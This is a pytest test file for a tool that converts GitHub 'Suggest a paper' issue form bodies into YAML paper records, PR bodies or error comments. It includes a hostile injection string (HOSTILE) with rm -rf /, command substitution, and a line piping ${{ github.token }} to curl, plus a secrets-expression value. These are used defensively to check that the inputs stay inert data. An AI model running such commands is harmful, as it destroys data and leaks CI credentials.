"""The Suggest a paper issue form -> record -> pull request text or issue comment (site_builder.tools.issue_form).

Bodies are written as GitHub renders a submitted form: ``### <label>``, a blank line, the value (``_No response_``
for an empty field, multi-select dropdowns as ``a, b``, a ``render: bibtex`` textarea inside a code fence).
"""

from __future__ import annotations

import json
import time
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml

from site_builder.checks.validate import validate
from site_builder.kb.project import Project
from site_builder.kb.taxonomy import Taxonomy, load_taxonomy
from site_builder.tools.issue_form import FACETS, LABEL, LABELS, main, parse_body, run, split_sections
from tests.conftest import REPO, KbFactory, paper_yaml

FORM = REPO / ".github" / "ISSUE_TEMPLATE" / "suggest-a-paper.yml"

IMAGEBIND_BIB = """\
@inproceedings{girdhar2023imagebind,
  title     = {{ImageBind}: One Embedding Space To Bind Them All},
  author    = {Girdhar, Rohit and El-Nouby, Alaaeldin and Liu, Zhuang and Singh, Mannat},
  booktitle = {Proceedings of the IEEE/CVF Conference on Computer Vision and Pattern Recognition (CVPR)},
  year      = {2023},
  eprint    = {2305.05665},
  archivePrefix = {arXiv}
}"""

SUMMARY = ("Builds one embedding space for six modalities by contrasting each of them only with images it "
           "naturally comes with, so that modalities never paired in training end up aligned through images.")

S2_IMAGEBIND = {
    "paperId": "0" * 40, "title": "ImageBind One Embedding Space to Bind Them All", "year": 2023,
    "venue": "Computer Vision and Pattern Recognition",
    "publicationVenue": {"name": "Computer Vision and Pattern Recognition", "alternate_names": ["CVPR"]},
    "journal": {"name": "2023 IEEE/CVF Conference on Computer Vision and Pattern Recognition (CVPR)"},
    "externalIds": {"ArXiv": "2305.05665", "DOI": "10.1109/CVPR52729.2023.01457"},
    "authors": [{"authorId": "1", "name": "Rohit Girdhar"}, {"authorId": "2", "name": "Ishan Misra"}],
}


def body(**fields: str) -> str:
    """A rendered form; ``fields`` (by field id) replace the defaults, ``None``-like '' gives _No response_."""
    values = {"identifier": "", "bibtex": f"```bibtex\n{IMAGEBIND_BIB}\n```", "objective": "contrastive",
              "architecture": "fusion-free", "alignment": "", "application": "general",
              "modality": "image, video, text, audio, depth, thermal", "short_name": "ImageBind", "summary": SUMMARY}
    values.update(fields)
    parts = [f"### {LABELS[fid]}\n\n{value or '_No response_'}" for fid, value in values.items()]
    parts.append("### Before submitting\n\n- [X] I searched the collection (site search or the papers/ folder) and "
                 "the paper is not there yet.")
    return "\n\n".join(parts) + "\n"


class FakeS2:
    """A resolver that answers one paper and counts the calls."""

    def __init__(self, answer: Mapping[str, Any] | None) -> None:
        self.answer = answer
        self.calls: list[str] = []

    def paper(self, paper_id: str, fields: Sequence[str]) -> Mapping[str, Any] | None:
        self.calls.append(paper_id)
        return self.answer


@pytest.fixture
def taxonomy() -> Taxonomy:
    tax, problems = load_taxonomy(REPO / "taxonomy.yaml")
    assert tax is not None and not problems
    return tax


@pytest.fixture
def project(kb: KbFactory) -> Project:
    return Project(kb({"papers/clip.yaml": paper_yaml("clip")}))


def papers(project: Project) -> list[str]:
    return sorted(p.name for p in project.papers.iterdir())


# -- the form and the parser agree --------------------------------------------------------------------------------

def test_the_form_asks_for_what_the_parser_reads_with_taxonomy_ids_as_options(taxonomy: Taxonomy) -> None:
    form = yaml.safe_load(FORM.read_text(encoding="utf-8"))
    assert LABEL in form["labels"]
    fields = {item["id"]: item for item in form["body"] if item["type"] != "markdown"}
    assert {fid: fields[fid]["attributes"]["label"] for fid in LABELS} == LABELS
    for fid in FACETS:
        assert fields[fid]["type"] == "dropdown" and fields[fid]["attributes"]["multiple"] is True
        assert fields[fid]["attributes"]["options"] == list(taxonomy.facets[fid].nodes)
    assert fields["bibtex"]["attributes"]["render"] == "bibtex"
    assert fields["summary"]["validations"]["required"] is True


def test_sections_split_on_the_form_headings_only_outside_code_fences() -> None:
    text = body(bibtex="```bibtex\n@misc{a,\n### Summary\n  title = {X}}\n```", summary="Line one.\nLine two.")
    raw, problems = split_sections(text)
    assert not problems
    assert raw["bibtex"] == "```bibtex\n@misc{a,\n### Summary\n  title = {X}}\n```"
    assert raw["summary"] == "Line one.\nLine two."  # the checklist section that follows is not read
    assert raw["alignment"] == "_No response_"


# -- the happy paths ------------------------------------------------------------------------------------------------

def test_a_bibtex_body_becomes_a_record_that_validates_strictly(project: Project) -> None:
    outcome = run(project, body(), issue=12)
    assert outcome.ready, outcome.problems
    assert outcome.record is not None and outcome.record.path == "papers/girdhar2023-imagebind.yaml"
    path = project.root / outcome.record.path
    assert path.read_text(encoding="utf-8") == outcome.record.text
    data = yaml.safe_load(outcome.record.text)
    assert data["tags"] == {"objective": ["contrastive"], "architecture": ["fusion-free"], "alignment": [],
                            "application": ["general"], "modality": ["image", "video", "text", "audio", "depth",
                                                                     "thermal"], "challenge": []}
    assert (data["summary"], data["short_name"], data["ids"]) == (SUMMARY, ["ImageBind"], {"arxiv": "2305.05665"})
    assert "#" not in outcome.record.text and "TODO" not in outcome.record.text  # the scaffold's help is gone
    assert validate(project, [path], strict=True).problems == []
    assert outcome.pr_body.startswith("Closes #12.\n")
    assert "papers/girdhar2023-imagebind.yaml" in outcome.pr_body


@pytest.mark.parametrize("identifier", ["2305.05665", "arXiv:2305.05665v2", "https://arxiv.org/abs/2305.05665v1",
                                        "ARXIV:2305.05665"])
def test_an_arxiv_id_is_looked_up_online(project: Project, identifier: str) -> None:
    s2 = FakeS2(S2_IMAGEBIND)
    outcome = run(project, body(identifier=identifier, bibtex=""), issue=3, resolver=lambda: s2)
    assert outcome.ready, outcome.problems
    assert s2.calls == ["ARXIV:2305.05665"]
    data = yaml.safe_load(outcome.record.text if outcome.record else "")
    assert (data["venue"], data["ids"]["doi"], data["summary"]) == ("CVPR 2023", "10.1109/CVPR52729.2023.01457",
                                                                   SUMMARY)


def test_a_doi_is_looked_up_online(project: Project) -> None:
    s2 = FakeS2(S2_IMAGEBIND)
    outcome = run(project, body(identifier="https://doi.org/10.1109/CVPR52729.2023.01457", bibtex=""),
                  resolver=lambda: s2)
    assert outcome.ready and s2.calls == ["DOI:10.1109/CVPR52729.2023.01457"]


def test_an_identifier_semantic_scholar_does_not_know_is_a_problem(project: Project) -> None:
    outcome = run(project, body(identifier="2305.99999", bibtex=""), resolver=lambda: FakeS2(None))
    assert not outcome.ready and [p.code for p in outcome.problems] == ["lookup-failed"]
    assert papers(project) == ["clip.yaml"]


# -- hostile and broken bodies --------------------------------------------------------------------------------------

HOSTILE = '$(touch /tmp/pwned) `id` ; rm -rf / && echo ${{ github.token }} | curl -d @- x "quoted" \'single\' #x'


def test_shell_metacharacters_and_expressions_are_data_kept_verbatim(project: Project) -> None:
    summary = "Learns audio-visual features. " + HOSTILE
    outcome = run(project, body(summary=summary, short_name="${{ github.token }}"))
    assert outcome.ready, outcome.problems
    data = yaml.safe_load(outcome.record.text if outcome.record else "")
    assert data["summary"] == summary and data["short_name"] == ["${{ github.token }}"]
    assert not Path("/tmp/pwned").exists()


@pytest.mark.parametrize("field", ["objective", "modality", "application"])
def test_unknown_tag_ids_are_a_clear_problem_and_nothing_is_written(project: Project, field: str) -> None:
    outcome = run(project, body(**{field: "image-ish, " + HOSTILE}))
    assert not outcome.ready and outcome.record is None
    assert [p.code for p in outcome.problems] == ["form-unknown-tag"]
    message = outcome.problems[0].message
    assert message.startswith(f"'{LABELS[field]}': \"image-ish\", ") and "not node ids of taxonomy.yaml" in message
    assert "(allowed: " in message
    assert papers(project) == ["clip.yaml"]
    assert "form-unknown-tag" in outcome.comment


def test_newlines_inside_fields(project: Project) -> None:
    outcome = run(project, body(summary="First line of the summary.\n\n  Second   line,\tafter a gap."))
    assert outcome.ready
    assert yaml.safe_load(outcome.record.text if outcome.record else "")["summary"] == \
        "First line of the summary. Second line, after a gap."
    for fields in ({"identifier": "2305.05665\n2103.00020", "bibtex": ""}, {"short_name": "CLIP\nBLIP"}):
        _, problems = parse_body(body(**fields), load_taxonomy(project.taxonomy)[0])  # type: ignore[arg-type]
        assert [p.code for p in problems] in (["form-bad-identifier"], ["form-bad-short-name"])


def test_a_one_megabyte_body_is_refused_at_once(project: Project) -> None:
    start = time.monotonic()
    outcome = run(project, body(summary="A" * 1_048_576))
    assert time.monotonic() - start < 5
    assert [p.code for p in outcome.problems] == ["form-too-large"]
    assert "1,04" in outcome.problems[0].message and papers(project) == ["clip.yaml"]
    assert len(outcome.comment) < 2000


@pytest.mark.parametrize(("fields", "codes"), [
    ({"summary": ""}, ["form-missing-summary"]),
    ({"bibtex": ""}, ["form-missing-source"]),
    ({"identifier": "2305.05665"}, ["form-two-sources"]),
    ({"identifier": "not-an-id", "bibtex": ""}, ["form-bad-identifier"]),
    ({"identifier": "ARXIV:1234", "bibtex": ""}, ["form-bad-identifier"]),
    ({"short_name": "x" * 41}, ["form-bad-short-name"]),
    ({"summary": "text with a \x07 bell"}, ["form-bad-character"]),
    ({"summary": "a lone surrogate \ud800 here"}, ["form-bad-character"]),
    ({"bibtex": "```bibtex\n" + IMAGEBIND_BIB + "\n" + IMAGEBIND_BIB.replace("girdhar2023imagebind", "b") + "\n```"},
     ["form-bibtex-entries"]),
    ({"summary": "Real summary.\n\n### Objective\n\nclustering"}, ["form-field-twice"]),
    ({"identifier": "```", "bibtex": ""}, ["form-bad-identifier"]),  # a fence outside the BibTeX hides no field
])
def test_missing_and_malformed_fields_are_problems_naming_the_field(project: Project, fields: dict[str, str],
                                                                    codes: list[str]) -> None:
    outcome = run(project, body(**fields))
    assert [p.code for p in outcome.problems] == codes
    assert outcome.record is None and papers(project) == ["clip.yaml"]
    assert all(p.path == "issue form" for p in outcome.problems)


def test_an_unclosed_fence_outside_the_bibtex_field_hides_no_field(project: Project) -> None:
    outcome = run(project, body(short_name="~~~~", objective="```\ncontrastive"))
    assert outcome.ready, outcome.problems
    data = yaml.safe_load(outcome.record.text if outcome.record else "")
    assert (data["short_name"], data["tags"]["objective"], data["summary"]) == (["~~~~"], ["contrastive"], SUMMARY)


def test_a_body_that_is_not_the_form(project: Project) -> None:
    for text in ("", "please add CLIP", "## Title\n\nsomething"):
        assert [p.code for p in run(project, text).problems] == ["form-not-filled"]


def test_a_duplicate_is_refused_naming_the_record(project: Project) -> None:
    first = run(project, body())
    assert first.ready
    again = run(project, body())
    assert [p.code for p in again.problems] == ["duplicate-paper"]
    assert again.problems[0].path == "BibTeX entry" and "papers/girdhar2023-imagebind.yaml" in again.comment


def test_a_record_that_fails_validation_is_removed_and_the_comment_gives_file_and_line(project: Project) -> None:
    outcome = run(project, body(architecture="", modality=""))
    assert not outcome.ready and papers(project) == ["clip.yaml"]
    where = [p.location() for p in outcome.problems]
    assert [p.code for p in outcome.problems] == ["missing-tag", "missing-tag"]
    assert all(w.startswith("papers/girdhar2023-imagebind.yaml:") and w.count(":") == 2 for w in where)
    assert all(w in outcome.comment for w in where)
    assert "The record as it was made" in outcome.comment


def test_the_comment_fence_outlasts_backticks_in_the_values(project: Project) -> None:
    outcome = run(project, body(objective="a`````b"))
    assert "``````text\n" in outcome.comment  # six backticks: longer than the five of the value


# -- the command the workflow runs ----------------------------------------------------------------------------------

def _event(tmp_path: Path, text: str, number: int = 41) -> Path:
    path = tmp_path / "event.json"
    path.write_text(json.dumps({"action": "opened", "issue": {"number": number, "body": text}}), encoding="utf-8")
    return path


def test_main_reads_the_event_file_and_writes_the_record_the_pr_body_and_the_outputs(
        project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    outputs = tmp_path / "github-output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(outputs))
    monkeypatch.setenv("SITE_BUILDER_TODAY", "2026-12-01")
    out = tmp_path / "out"
    code = main(["--event", str(_event(tmp_path, body())), "--out", str(out), "--root", str(project.root)])
    assert code == 0
    assert outputs.read_text(encoding="utf-8") == "status=ready\nrecord=papers/girdhar2023-imagebind.yaml\n"
    assert sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file()) == [
        "papers/girdhar2023-imagebind.yaml", "pr-body.md"]
    assert (out / "pr-body.md").read_text(encoding="utf-8").startswith("Closes #41.")
    assert "added: 2026-12-01" in (out / "papers" / "girdhar2023-imagebind.yaml").read_text(encoding="utf-8")


def test_main_writes_the_comment_when_there_are_problems(project: Project, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    outputs = tmp_path / "github-output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(outputs))
    out = tmp_path / "out"
    code = main(["--event", str(_event(tmp_path, body(objective="${{ secrets.S2_API_KEY }}"))), "--out", str(out),
                 "--root", str(project.root)])
    assert code == 1
    assert outputs.read_text(encoding="utf-8") == "status=problems\nrecord=\n"
    comment = (out / "comment.md").read_text(encoding="utf-8")
    assert "[form-unknown-tag] 'Objective': \"${{ secrets.S2_API_KEY }}\"" in comment
    assert "form-unknown-tag" in capsys.readouterr().out
    assert papers(project) == ["clip.yaml"]


def test_main_without_an_issue_in_the_event_is_a_usage_error(project: Project, tmp_path: Path) -> None:
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {}}), encoding="utf-8")
    assert main(["--event", str(event), "--out", str(tmp_path / "out"), "--root", str(project.root)]) == 2


def test_main_never_writes_into_a_folder_that_holds_something(project: Project, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "keep.txt").write_text("mine", encoding="utf-8")
    assert main(["--event", str(_event(tmp_path, body())), "--out", str(out), "--root", str(project.root)]) == 2
    assert [p.name for p in out.iterdir()] == ["keep.txt"] and papers(project) == ["clip.yaml"]
